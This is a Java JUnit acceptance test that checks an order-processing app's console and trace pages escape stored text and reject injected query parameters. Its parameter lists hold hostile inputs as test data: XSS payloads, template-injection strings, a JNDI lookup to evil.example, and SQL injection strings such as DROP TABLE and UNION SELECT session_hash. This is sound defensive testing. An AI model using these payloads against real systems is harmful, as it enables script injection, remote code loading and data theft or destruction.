package io.tandem.acceptance.hostile;

import static io.tandem.acceptance.Answers.assertProblem;
import static io.tandem.acceptance.Answers.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.tandem.acceptance.Caller;
import io.tandem.acceptance.Rows;
import io.tandem.acceptance.Tandem;
import io.tandem.acceptance.consistency.Misfits;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What others wrote (into a message that another program published, into the trace of a failure) is shown as it stands, and
 * neither browser, template engine nor MySQL takes it for more than text.
 */
class StoredTextTest {

    private final UUID attempt = Misfits.attemptMade(Duration.ofSeconds(9));

    @AfterEach
    void tidyUp() {
        Rows.execute("DELETE FROM parked_message WHERE consumer_group = 'STORED_TEXT'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\" autofocus onfocus=\"alert(1)",
                "' onmouseover='alert(1)",
                "</code></td><img src=x onerror=alert(1)>",
                "{config:['APP_DEMO_PASSWORD']} {page.csrf} {#include layout /}",
                "${7*7} #{7*7} {{7*7}} ${jndi:ldap://evil.example/x}",
                "'; DROP TABLE orders; -- \" OR 1=1 /*"
            })
    void isShownAsItStands(String text) {
        park(text);
        Rows.execute(
                "INSERT INTO message_trace (attempt_id, message_key, message_id, step, result, began_at, host, peer, detail)"
                        + " VALUES (?, ?, ?, 'DELIVERY', 'PARK', UTC_TIMESTAMP(6), ?, ?, ?)",
                bytes(),
                text,
                text,
                text,
                text,
                text);
        Caller browser = Caller.signedIn(Tandem.order());

        HttpResponse<String> console = browser.get("/consistency");
        HttpResponse<String> trace = browser.get("/trace?attemptId=" + attempt);
        HttpResponse<String> search = browser.get("/trace?" + Caller.encoded(Map.of("messageId", text)));

        for (HttpResponse<String> page : List.of(console, trace, search)) {
            assertThat(page.body())
                    .doesNotContain("<script>alert", "<img src=x", "\" autofocus onfocus", "' onmouseover='");
        }
        assertThat(console.statusCode()).isEqualTo(200);
        assertThat(console.body()).contains(escaped(text));
        assertThat(trace.statusCode()).isEqualTo(200);
        assertThat(trace.body()).contains(escaped(text));
        assertThat(parked(json(Caller.program(Tandem.order()).get("/api/consistency")))
                        .path("body")
                        .asText())
                .isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR '1'='1",
                "1 OR 1=1",
                "1; DELETE FROM orders",
                "1 UNION SELECT session_hash FROM web_session",
                "%",
                "_",
                "\\",
                "0x31",
                "<script>alert(1)</script>"
            })
    void noQueryFindsMoreThanItAskedFor(String text) {
        Caller program = Caller.program(Tandem.order());
        long before = Rows.number("SELECT COUNT(*) FROM orders");

        HttpResponse<String> byMessage = program.get("/api/trace?" + Caller.encoded(Map.of("messageId", text)));
        assertThat(byMessage.statusCode()).as(byMessage.body()).isIn(400, 404);
        for (String name : new String[] {"orderId", "attemptId", "limit", "before"}) {
            assertProblem(program.get("/api/trace?" + Caller.encoded(Map.of(name, text))), 400, "invalid");
        }
        assertProblem(
                program.with("Idempotency-Key", text.strip()).place(Tandem.freshNumber(), Tandem.freshNumber()),
                400,
                "invalid");
        assertThat(Rows.number("SELECT COUNT(*) FROM orders")).isEqualTo(before);
    }

    @Test
    void headersThatNobodyReadsChangeNothing() {
        String text = "'\"><script>alert(1)</script>${jndi:ldap://evil.example/x}{page.csrf}";
        Caller program = Caller.program(Tandem.order())
                .with("User-Agent", text)
                .with("Referer", text)
                .with("traceparent", text)
                .with("X-Request-Id", text);
        long orderId = Tandem.freshNumber();

        assertThat(program.place(Tandem.freshNumber(), orderId).statusCode()).isEqualTo(201);

        assertThat(Caller.signedIn(Tandem.order())
                        .get("/trace?orderId=" + orderId)
                        .body())
                .doesNotContain("alert(1)");
    }

    private void park(String text) {
        Rows.execute(
                "INSERT INTO parked_message (consumer_group, message_id, topic, tag, message_key, attempt_id, reason, detail,"
                        + " properties, body, delivery_attempt) VALUES ('STORED_TEXT', ?, 'T', ?, ?, ?, ?, ?, '{}', ?, 3)",
                text,
                text,
                text,
                bytes(),
                text,
                text,
                text.getBytes(StandardCharsets.UTF_8));
    }

    private byte[] bytes() {
        return ByteBuffer.allocate(2 * Long.BYTES)
                .putLong(attempt.getMostSignificantBits())
                .putLong(attempt.getLeastSignificantBits())
                .array();
    }

    private static JsonNode parked(JsonNode report) {
        for (JsonNode one : report.path("parked").path("items")) {
            if (one.path("deliveryAttempt").asInt() == 3
                    && one.path("reason").asText().equals(one.path("body").asText())) {
                return one;
            }
        }
        throw new AssertionError("not parked: " + report.path("parked"));
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("\"", "&quot;")
                .replace("'", "&#39;");
    }
}
